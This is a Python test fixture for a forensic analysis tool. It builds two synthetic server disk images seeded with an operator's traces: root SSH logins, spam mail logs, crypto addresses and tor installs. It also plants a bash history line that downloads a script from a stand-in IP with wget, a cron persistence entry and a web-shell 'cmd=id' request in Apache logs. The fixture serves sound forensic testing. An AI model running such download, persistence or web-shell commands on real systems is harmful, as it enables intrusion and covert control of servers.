"""Test helper (no tests): a two-drive operator case built with real tools at test time.

Two ext4 images (mkfs.ext4 -d) of two "servers" worked by one operator. Planted on both: one
SSH public key authorised for root (made by ssh-keygen; its fingerprint as ssh-keygen prints
it is the oracle), logins from one address with that key (sshd's own log format), one Bitcoin
address and one WebMoney purse in notes. Each drive also holds its own artefacts: postfix or
exim logs, Apache access logs (one rotated and gzip'd), dpkg or yum logs, a Pidgin account,
a PGP public key made by gpg. Files get explicit modification times, so year-less log lines
have a known year.
"""
from __future__ import annotations

import gzip
import os
import shutil
import subprocess
import tempfile
from dataclasses import dataclass, field
from datetime import datetime, timezone
from pathlib import Path

from tests import imaging

SHARED_IP = "203.0.113.66"
SHARED_BTC = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"  # the genesis block's address, a well-known valid one
BAD_BTC = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb"  # one character changed: checksum fails
SHARED_PURSE = "Z104859673021"
SEGWIT = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"  # BIP-173 test vector
MONERO = ("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A")
JID = "cosma2k@jabber.example.org"
CRON_LINE = "*/5 * * * * /root/.x/upd.sh >/dev/null 2>&1"
CRON_COMMAND = "/root/.x/upd.sh >/dev/null 2>&1"


def utc(text: str) -> int:
    return int(datetime.fromisoformat(text).replace(tzinfo=timezone.utc).timestamp())


@dataclass
class Drive:
    image: Path
    files: dict[str, tuple[bytes, int]] = field(default_factory=dict)  # path -> (content, mtime)


@dataclass
class OperatorCase:
    drives: list[Drive]
    key_fingerprint: str  # "SHA256:..." as ssh-keygen -l prints it
    key_comment: str
    pgp_fingerprint: str | None  # as gpg prints it, None when gpg is absent


def ssh_key(workdir: Path, comment: str) -> tuple[str, str]:
    """(public key line, SHA256 fingerprint) of a fresh ed25519 key (the private half is discarded)."""
    key = workdir / "id_ed25519"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(key)], check=True)
    pub = key.with_suffix(".pub").read_text().strip()
    fp = subprocess.run(["ssh-keygen", "-l", "-E", "sha256", "-f", str(key.with_suffix(".pub"))], check=True,
                        capture_output=True, text=True).stdout.split()[1]
    key.unlink()
    return pub, fp


def pgp_key(workdir: Path, uid: str) -> tuple[bytes, str] | None:
    """(armored public key, fingerprint as gpg prints it), made by gpg in a throw-away home."""
    if not shutil.which("gpg"):
        return None
    home = workdir / "gnupg"
    home.mkdir(mode=0o700)
    env = dict(os.environ, GNUPGHOME=str(home))
    subprocess.run(["gpg", "--batch", "--quiet", "--passphrase", "", "--quick-gen-key", uid, "ed25519", "sign",
                    "never"], check=True, env=env, capture_output=True)
    armored = subprocess.run(["gpg", "--batch", "--armor", "--export", uid], check=True, env=env,
                             capture_output=True).stdout
    colons = subprocess.run(["gpg", "--batch", "--with-colons", "--fingerprint", uid], check=True, env=env,
                            capture_output=True, text=True).stdout
    fpr = next(line.split(":")[9] for line in colons.splitlines() if line.startswith("fpr:"))
    subprocess.run(["gpgconf", "--kill", "all"], env=env, capture_output=True)
    return armored, fpr


def _auth_log(host: str, fp: str) -> bytes:
    return (f"Mar 16 03:14:15 {host} sshd[2211]: Accepted publickey for root from {SHARED_IP} port 50122 ssh2: "
            f"ED25519 {fp}\n"
            f"Mar 16 03:14:15 {host} sshd[2211]: pam_unix(sshd:session): session opened for user root(uid=0) by "
            f"(uid=0)\n"
            f"Mar 16 03:20:01 {host} sshd[2301]: Failed password for invalid user admin from 198.51.100.9 "
            f"port 40022 ssh2\n").encode()


def _access_lines(day: str, ip: str) -> bytes:
    return (f'{ip} - - [{day}:10:00:00 +0300] "POST /wp-login.php HTTP/1.1" 302 0 "-" "Mozilla/5.0"\n'
            f'{ip} - - [{day}:10:00:05 +0300] "GET /wp-content/uploads/2011/03/wso.php?cmd=id HTTP/1.1" 200 48 '
            f'"-" "curl/7.21.0"\n'
            f'192.0.2.44 - - [{day}:11:30:00 +0300] "GET /index.html HTTP/1.1" 200 5120 "http://example.com/" '
            f'"Mozilla/4.0"\n').encode()


def build(workdir: Path) -> OperatorCase:
    workdir.mkdir(parents=True, exist_ok=True)
    keys = workdir / "keys"
    keys.mkdir()
    comment = "cosma@builder"
    pub, fp = ssh_key(keys, comment)
    pgp = pgp_key(workdir, "Cosma Operator <cosma2k@example.net>")
    t_a, t_b = utc("2011-03-20T08:00:00"), utc("2011-03-21T09:00:00")
    notes = (f"payments: WMZ purse {SHARED_PURSE}\nbtc {SHARED_BTC}\nold (typo) {BAD_BTC}\n"
             f"segwit {SEGWIT}\nxmr {MONERO}\nICQ: 334455667\ntelegram: @Cosma_Ops\n").encode()
    pidgin = (f"<?xml version='1.0' encoding='UTF-8' ?>\n<account version='1.0'>\n <account>\n"
              f"  <protocol>prpl-jabber</protocol>\n  <name>{JID}/Home</name>\n </account>\n</account>\n").encode()
    a = {
        "/root/.ssh/authorized_keys": ((pub + "\n").encode(), utc("2011-03-01T12:00:00")),
        "/var/log/auth.log": (_auth_log("srv1", fp), t_a),
        "/home/op/notes.txt": (notes, utc("2011-03-02T12:00:00")),
        "/home/op/.purple/accounts.xml": (pidgin, utc("2011-03-03T12:00:00")),
        "/var/log/mail.log": (
            b"Mar 16 12:34:56 srv1 postfix/qmgr[812]: 3F2A1B2C3D: from=<promo@pharma-deals.example>, size=2345, "
            b"nrcpt=1 (queue active)\n"
            b"Mar 16 12:34:57 srv1 postfix/smtp[813]: 3F2A1B2C3D: to=<a@example.org>, relay=mx.example.org"
            b"[192.0.2.25]:25, delay=1.2, delays=0.1/0/0.5/0.6, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as "
            b"ABC123)\n"
            b"Mar 16 12:35:00 srv1 postfix/smtp[813]: 4A1B2C3D4E: to=<b@example.net>, relay=none, delay=30, "
            b"delays=0/0/30/0, dsn=4.4.1, status=deferred (connect to mx.example.net[198.51.100.2]:25: Connection "
            b"timed out)\n"
            b"Mar 17 08:00:00 srv1 postfix/smtp[900]: 5B1B2C3D4E: to=<c@example.com>, relay=mx.example.com"
            b"[203.0.113.5]:25, delay=1, delays=0/0/0.5/0.5, dsn=5.1.1, status=bounced (host mx.example.com"
            b"[203.0.113.5] said: 550 5.1.1 User unknown (in reply to RCPT TO command))\n", t_a),
        "/var/log/apache2/access.log": (_access_lines("16/Mar/2011", SHARED_IP), t_a),
        "/var/log/apache2/access.log.2.gz": (gzip.compress(_access_lines("14/Mar/2011", SHARED_IP), mtime=0),
                                             utc("2011-03-15T00:00:00")),
        "/var/log/dpkg.log": (b"2011-03-01 10:00:00 startup archives unpack\n"
                              b"2011-03-01 10:00:01 install tor:amd64 <none> 0.2.1.30-1\n"
                              b"2011-03-01 10:00:02 status half-installed tor:amd64 0.2.1.30-1\n"
                              b"2011-03-01 10:00:05 upgrade openssl:amd64 0.9.8o-4 0.9.8o-4squeeze1\n", t_a),
    }
    a["/etc/passwd"] = (b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                        b"op:x:1000:1000:,,,:/home/op:/bin/bash\n", utc("2011-03-01T09:00:00"))
    a["/var/log/syslog"] = (
        f"Mar 16 03:20:01 srv1 CRON[3001]: (root) CMD ({CRON_COMMAND})\n"
        f"Mar 16 03:25:01 srv1 CRON[3010]: (root) CMD ({CRON_COMMAND})\n"
        f"Mar 16 03:25:01 srv1 rsyslogd: [origin software=\"rsyslogd\"] rsyslogd was HUPed\n"
        f"Mar 17 00:00:01 srv1 CRON[4001]: (root) CMD ({CRON_COMMAND})\n".encode(), t_a)
    a["/var/spool/cron/crontabs/root"] = (f"# m h dom mon dow command\n{CRON_LINE}\n".encode(),
                                          utc("2011-03-02T13:00:00"))
    a["/root/.bash_history"] = (f"#{utc('2011-03-16T03:15:00')}\nwget http://203.0.113.66/upd.sh -O /root/.x/upd.sh\n"
                                f"#{utc('2011-03-16T03:16:00')}\ncrontab -e\n".encode(), utc("2011-03-16T03:20:00"))
    if pgp:
        a["/home/op/pubkey.asc"] = (pgp[0], utc("2011-03-04T12:00:00"))
    b = {
        "/root/.ssh/authorized_keys": ((f'from="{SHARED_IP}" ' + pub + "\n").encode(), utc("2011-03-05T12:00:00")),
        "/var/log/secure": (_auth_log("srv2", fp).replace(b"Mar 16 03:14:15", b"Mar 18 22:01:02"), t_b),
        "/etc/timezone": (b"Europe/Moscow\n", utc("2011-03-01T08:00:00")),  # zone-less logs here are MSK (UTC+3)
        "/root/wallet.txt": (f"send to {SHARED_BTC} / purse {SHARED_PURSE}\n".encode(), utc("2011-03-06T12:00:00")),
        "/var/log/exim4/mainlog": (
            b"2011-03-18 12:00:00 1pQxyz-0001Ab-Cd <= spam@cheap-meds.example H=localhost (srv2) [127.0.0.1] "
            b"P=esmtp S=1234 id=1@srv2\n"
            b"2011-03-18 12:00:01 1pQxyz-0001Ab-Cd => v@example.org R=dnslookup T=remote_smtp H=mx.example.org "
            b"[192.0.2.25] X=TLS1.2 C=\"250 OK\"\n"
            b"2011-03-18 12:00:02 1pQxyz-0001Ab-Cd ** w@example.net R=dnslookup T=remote_smtp H=mx.example.net "
            b"[198.51.100.2]: SMTP error from remote mail server after RCPT TO:<w@example.net>: 550 No such user\n"
            b"2011-03-18 12:00:03 1pQxyz-0001Ab-Cd == z@example.com R=dnslookup T=remote_smtp defer (-44) "
            b"H=mx.example.com [203.0.113.5]: SMTP error from remote mail server after RCPT TO:<z@example.com>: "
            b"451 Try later\n", t_b),
        "/var/spool/cron/crontabs/root": (f"{CRON_LINE}\n".encode(), utc("2011-03-07T13:00:00")),
        "/var/log/yum.log": (b"Mar 02 10:00:00 Installed: tor-0.2.1.30-1.el5.x86_64\n"
                             b"Mar 02 10:05:00 Erased: sendmail\n", t_b),
    }
    drives = []
    for name, plants in (("a", a), ("b", b)):
        tree = workdir / f"tree-{name}"
        for path, (content, mtime) in plants.items():
            target = tree / path.lstrip("/")
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content)
            os.utime(target, (mtime, mtime))
        image = workdir / f"drive-{name}.img"
        _ext4_keeping_times(tree, image)
        drives.append(Drive(image, plants))
    return OperatorCase(drives, fp, comment, pgp[1] if pgp else None)


def _ext4_keeping_times(tree: Path, dest: Path, size_mib: int = 16) -> None:
    """mkfs.ext4 -d, like tests.imaging.ext4_from_tree but keeping each file's own mtime."""
    imaging._blank(dest, size_mib)
    with tempfile.TemporaryDirectory() as tmp:
        staged = Path(tmp) / "tree"
        shutil.copytree(tree, staged, symlinks=True)  # copytree keeps mtimes (copy2)
        for dirpath, _dirs, _files in os.walk(staged):
            os.utime(dirpath, (imaging.FIXED_EPOCH, imaging.FIXED_EPOCH))
        imaging._run(["mkfs.ext4", "-q", "-F", "-T", "small", "-L", "seized", "-U", imaging.FIXED_UUID,
                      "-E", f"hash_seed={imaging.FIXED_UUID},root_owner=0:0", "-d", staged, dest],
                     env=imaging._e2_env())
    imaging._pin_ext_ctimes(dest)  # mke2fs stamps ctimes with the wall clock


_SCANNED: dict[str, tuple[OperatorCase, Path]] = {}


def scanned(root: Path) -> tuple[OperatorCase, Path]:
    """The two-drive case built and scanned (with the report) once per test process."""
    from tests.conftest import run_seized

    key = str(root)
    if key not in _SCANNED:
        case = build(root / "work")
        out = root / "case"
        proc = run_seized("scan", *(d.image for d in case.drives), "-o", out, "--workers", "1",
                          "--case-name", "Operator test", "--examiner", "T. Examiner")
        if proc.returncode != 0:
            raise AssertionError(f"seized scan exited {proc.returncode}:\n{proc.stderr[-4000:]}")
        _SCANNED[key] = (case, out)
    return _SCANNED[key]
